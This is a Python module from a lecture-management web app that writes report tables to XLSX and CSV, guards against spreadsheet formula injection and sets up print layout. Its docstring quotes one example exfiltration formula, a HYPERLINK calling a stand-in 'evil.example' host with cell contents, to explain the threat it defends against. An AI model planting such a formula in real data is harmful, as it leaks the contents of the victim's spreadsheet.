"""What every spreadsheet export does: report tables written as XLSX (XlsxWriter) or CSV (UTF-8 with BOM, as Excel
expects), with the text that would start a formula neutralised.

A cell whose text starts with = + - @ (or a tab or carriage return) is read by Excel, LibreOffice and
WPS as a formula: a leave reason like `=HYPERLINK("http://evil.example/?"&B2,"详情")` would run in the
coordinator's spreadsheet and send other cells away. OWASP's CSV-injection guidance: prefix such text
with a single quote, so it is shown as typed and never evaluated. Numbers and dates are written as
numbers and dates, not text, so they keep their type and are never touched.
"""
from __future__ import annotations

import csv
import functools
import io
import re
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal

import xlsxwriter
from blinker import Namespace
from flask import Response, current_app, request, send_file

from lecturehub.core.timeutil import to_local

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_signals = Namespace()
# Sent with path, filename and rows each time a table is downloaded; the audit log listens (core knows no audit).
table_exported = _signals.signal("table-exported")


def neutralise_formula(value):
    """`value` as a spreadsheet may safely receive it: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


FORMATS = {"xlsx", "csv"}


@dataclass
class Column:
    header: str
    kind: str = "text"  # text | int | number | percent | date | datetime


@dataclass
class Table:
    title: str
    columns: list[Column]
    rows: list[list] = field(default_factory=list)
    # Printed at the top of every page of the XLSX (which report, which lecture or venue); the title if empty.
    heading: str = ""


def _excel_value(value, kind: str):
    if value is None:
        return None
    if kind == "datetime" and isinstance(value, datetime):
        return to_local(value).replace(tzinfo=None)  # Excel has no time zones: local wall-clock time
    if kind == "date" and isinstance(value, datetime):
        return to_local(value).date()
    if kind == "percent" and isinstance(value, (int, float, Decimal)):
        return float(value) / 100
    if isinstance(value, Decimal):
        return float(value)
    return value


NUMBER_FORMATS = {"datetime": "yyyy-mm-dd hh:mm", "date": "yyyy-mm-dd", "percent": "0.0%", "number": "0.0",
                  "int": "0"}
# Characters a sheet name may not hold (Excel's rule, which XlsxWriter enforces).
SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def to_xlsx(table: Table) -> bytes:
    """One sheet: bold frozen header row, widths fitted to the content, dates as real dates, ready to print.

    Written with XlsxWriter in its constant-memory (row by row) mode: a course matrix of 10,000 cells takes
    about 47 ms, where openpyxl's streaming mode took 125 ms. Every string is written as a string, never
    read as a formula, number or link, whatever it starts with.
    """
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"constant_memory": True, "in_memory": True, "strings_to_numbers": False,
                                            "strings_to_formulas": False, "strings_to_urls": False})
    # A record filed upward must read the same when downloaded again: no save time inside the file (XlsxWriter
    # dates the archive's parts 1980-01-01 itself).
    workbook.set_properties({"created": REPRODUCIBLE_TIME})
    sheet = workbook.add_worksheet(SHEET_NAME_FORBIDDEN.sub(" ", table.title)[:31].strip() or "Sheet1")
    widths = []
    for index, column in enumerate(table.columns):
        width = max([_display_width(column.header)] + [
            _display_width(r[index] if isinstance(r[index], str) else _text(r[index], column.kind))
            for r in table.rows[:500]])
        widths.append(min(max(width + 2, 8), 60))
        sheet.set_column(index, index, widths[-1])
    sheet.freeze_panes(1, 0)
    set_up_printing(sheet, table, sum(widths))
    header = workbook.add_format({"bold": True, "bg_color": "#F3EEEB", "pattern": 1, "valign": "vcenter",
                                  "text_wrap": True})  # full lecture titles, wrapped
    for index, column in enumerate(table.columns):
        sheet.write_string(0, index, neutralise_formula(str(column.header)), header)
    kinds = [c.kind for c in table.columns]
    formats = [workbook.add_format({"num_format": NUMBER_FORMATS[kind]}) if kind in NUMBER_FORMATS else None
               for kind in kinds]
    when = workbook.add_format({"num_format": NUMBER_FORMATS["datetime"]})
    write_string = sheet.write_string
    for row_index, row in enumerate(table.rows, start=1):
        if len(row) != len(kinds):
            raise ValueError(f"row {row_index} has {len(row)} cells for {len(kinds)} columns")
        for index, value in enumerate(row):
            # Text first, and inline: most cells of the largest sheets (a course matrix) are words.
            if isinstance(value, str):
                write_string(row_index, index, "'" + value if value.startswith(FORMULA_TRIGGERS) else value)
                continue
            value = _excel_value(value, kinds[index])
            if value is None:
                continue
            if isinstance(value, (datetime, date)):
                sheet.write_datetime(row_index, index, value, formats[index] or when)
            elif isinstance(value, (int, float)):
                sheet.write(row_index, index, value, formats[index])
            else:  # a lazily translated word, say
                write_string(row_index, index, neutralise_formula(str(value)))
    workbook.close()
    return buffer.getvalue()


# What a download says it was created at, instead of the moment of the download (as reproducible builds do).
REPRODUCIBLE_TIME = datetime(2000, 1, 1)


# Wider than this (in Excel's character widths) and a sheet prints across an A4 page (landscape).
PORTRAIT_MAX_WIDTH = 70  # A4 portrait between default margins holds about 70 character widths
_A4 = 9  # Excel's paper size code


def set_up_printing(sheet, table: Table, total_width: float) -> None:
    """Print setup for a report sheet, so it comes out of Excel, WPS or LibreOffice ready to file: A4, as wide as
    the page (landscape when the columns are wide), the header row repeated on every page, the report named at
    the top of each page and the pages numbered at the foot."""
    sheet.set_paper(_A4)
    if total_width > PORTRAIT_MAX_WIDTH:
        sheet.set_landscape()
    else:
        sheet.set_portrait()
    sheet.fit_to_pages(1, 0)  # as wide as the page, as many pages down as the rows need
    sheet.repeat_rows(0)
    sheet.hide_gridlines(0)  # gridlines on screen and on paper
    # "&" starts a code in Excel's header language; a literal one is written twice.
    # Excel takes at most 255 characters there.
    sheet.set_header("&C" + (table.heading or table.title)[:120].replace("&", "&&"))
    sheet.set_footer("&C&P / &N")


@functools.lru_cache(maxsize=4096)  # a matrix repeats a handful of words thousands of times
def _display_width(text: str) -> int:
    # CJK characters take two columns in Excel's default font.
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)


def _text(value, kind: str) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        local = to_local(value)
        return local.strftime("%Y-%m-%d" if kind == "date" else "%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    if kind == "percent" and isinstance(value, (int, float, Decimal)):
        return f"{float(value):.1f}%"
    return str(value)


def _csv_cell(value, kind: str) -> str:
    # In CSV everything is text, so only what the database held as text is neutralised: a negative
    # number stays a number Excel can sum.
    text = _text(value, kind)
    return neutralise_formula(text) if isinstance(value, str) else text


def to_csv(table: Table) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise_formula(c.header) for c in table.columns])
    for row in table.rows:
        writer.writerow([_csv_cell(v, c.kind) for v, c in zip(row, table.columns, strict=True)])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def download(table: Table, filename_stem: str, fmt: str) -> Response:
    """The table as an XLSX or CSV attachment; `table_exported` lets the audit log record who took it."""
    if fmt == "xlsx":
        data, mimetype = to_xlsx(table), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    else:
        data, mimetype = to_csv(table), "text/csv"  # Werkzeug adds "; charset=utf-8" to text types
    filename = f"{filename_stem}.{fmt}"
    table_exported.send(current_app._get_current_object(), path=request.full_path.rstrip("?"), filename=filename,
                        rows=len(table.rows))
    response = send_file(io.BytesIO(data), mimetype=mimetype, as_attachment=True, download_name=filename)
    response.headers["Cache-Control"] = "no-store"
    return response
